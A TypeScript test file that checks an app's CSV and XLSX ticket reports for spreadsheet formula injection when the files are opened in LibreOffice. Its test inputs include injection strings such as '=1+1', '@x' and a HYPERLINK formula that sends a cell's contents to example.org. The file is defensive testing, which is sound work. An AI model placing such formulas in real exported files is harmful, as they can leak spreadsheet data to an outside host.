/** CSV and XLSX as LibreOffice reads them: every text is the same, and none became a formula. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { openCacheWriter } from '../../electron/engine/cache/open-cache.ts';
import { NOON, sampleTicket } from '../../electron/engine/cache/sample-tickets.ts';
import { openLedger } from '../../electron/engine/ledger/open-ledger.ts';
import { csvRecords, withoutFormulaGuard } from '../../shared/csv.ts';
import { parseInstant } from '../../shared/domain/instant.ts';
import { columnsOf } from '../../shared/report-columns.ts';
import { reportQuestionSchema } from '../../shared/reports.ts';
import { KEY } from '../sync/syncing.ts';
import { converted, HAS_LIBRE_OFFICE } from './libre-office.ts';
import { type Made, make } from './reporting.ts';

/** LibreOffice starts anew for each conversion. */
vi.setConfig({ testTimeout: 180_000 });

const OWNERS = [
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  '=1+1',
  '+1',
  '-1',
  '@x',
  '＝1',
  "'=1",
  "'quoted'",
  '\tTab',
  ' blank before and after ',
  'She said "no", twice',
  'two\nlines',
  '\n=1',
  'محمد علي الأحمد',
  '👩‍👧 🎫',
  '_x000D_ & <b>',
];
/** What a spreadsheet makes numbers and times of where a file does not say that they are texts. */
const LOOKALIKES = ['00123', '2026-06-14', 'TRUE', '1e5'];

const COLUMNS = columnsOf(reportQuestionSchema.parse({ kind: 'tickets' }));
const at = (key: string): number => COLUMNS.findIndex((column) => column.key === key);

/** A report on tickets whose owners have these names, in their order. */
async function reportOn(dataDir: string, owners: readonly string[]): Promise<Made> {
  openLedger({ dataDir, key: KEY, now: () => NOON }).ledger.close();
  const { writer } = openCacheWriter({ dataDir, key: KEY, source: 'made up', now: () => NOON });
  const tickets = owners.map((lastName, index) =>
    sampleTicket({
      ticketId: `A-${String(index).padStart(3, '0')}`,
      currentOwner: { id: `SP-${index}`, lastName },
      lastUpdated: '2026-06-14T14:00:00.500+02:00',
    }),
  );
  writer.storeTicketPage({ tickets, setAside: [], asOf: NOON });
  writer.close();
  return make({ dataDir }, { question: { kind: 'tickets' }, formats: ['csv', 'xlsx'] });
}

/** LibreOffice has no cells for truth values: it shows those of a workbook by these two functions of its own. */
function formulasIn(fods: string): string[] {
  const formulas = [...fods.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = '']) => formula);
  return formulas.filter((formula) => !['of:=TRUE()', 'of:=FALSE()'].includes(formula));
}

const NOT_RUN = 'not run: there is no LibreOffice on this machine';

if (!HAS_LIBRE_OFFICE) {
  test.todo(`spreadsheets in LibreOffice: ${NOT_RUN}`);
  process.stderr.write(`spreadsheets in LibreOffice: ${NOT_RUN}\n`);
} else {
  let directory: string;
  let made: Made;
  beforeAll(async () => {
    directory = mkdtempSync(path.join(tmpdir(), 'usher-libre-office-'));
    made = await reportOn(directory, [...OWNERS, ...LOOKALIKES]);
  });
  afterAll(() => rmSync(directory, { recursive: true, force: true }));

  /** What LibreOffice makes of the report in a format. */
  const seen = (extension: 'csv' | 'xlsx', to: 'csv' | 'fods'): string =>
    converted(made.manifestFile.replace('.manifest.json', `.${extension}`), to, directory);

  test('LibreOffice shows each text of a CSV as it is, once the documented apostrophe is taken away, and no formula', () => {
    const owners = [...csvRecords(seen('csv', 'csv'))].slice(1).map((cells) => cells[at('ownerName')] ?? '');
    expect(owners.slice(0, OWNERS.length).map(withoutFormulaGuard)).toEqual(OWNERS);
    expect(formulasIn(seen('csv', 'fods'))).toEqual([]);
  });

  test('LibreOffice shows each text of an XLSX as it is, numbers and times as such, and no formula', () => {
    const [, ...records] = csvRecords(seen('xlsx', 'csv'));
    expect(records.map((cells) => cells[at('ownerName')])).toEqual([...OWNERS, ...LOOKALIKES]);
    for (const cells of records) {
      expect(cells[at('price')]).toBe('85.00');
      expect(cells[at('injected')]).toBe('TRUE');
      expect(parseInstant(cells[at('deliveredAt')] ?? '')).toEqual({ utc: NOON, offset: 0 });
      expect(cells[at('lastUpdated')]).toBe('2026-06-14 12:00:00.500Z (+02:00)');
    }
    const fods = seen('xlsx', 'fods');
    expect(formulasIn(fods)).toEqual([]);
    for (const part of [
      'office:value-type="date" office:date-value="2026-06-14T12:00:00.5"',
      'office:value-type="float" office:value="85"',
      '<table:table table:name="Definitions"',
      'table:display-filter-buttons="true"',
    ]) {
      expect(fods.includes(part), part).toBe(true);
    }
  });

  test('LibreOffice does find formulas where there are some, so that none found means something', () => {
    const file = path.join(directory, 'careless.csv');
    writeFileSync(file, 'Owner\r\n=1+1\r\n"=HYPERLINK(""http://example.org"")"\r\n');
    expect(formulasIn(converted(file, 'fods', directory))).toHaveLength(2);
  });
}
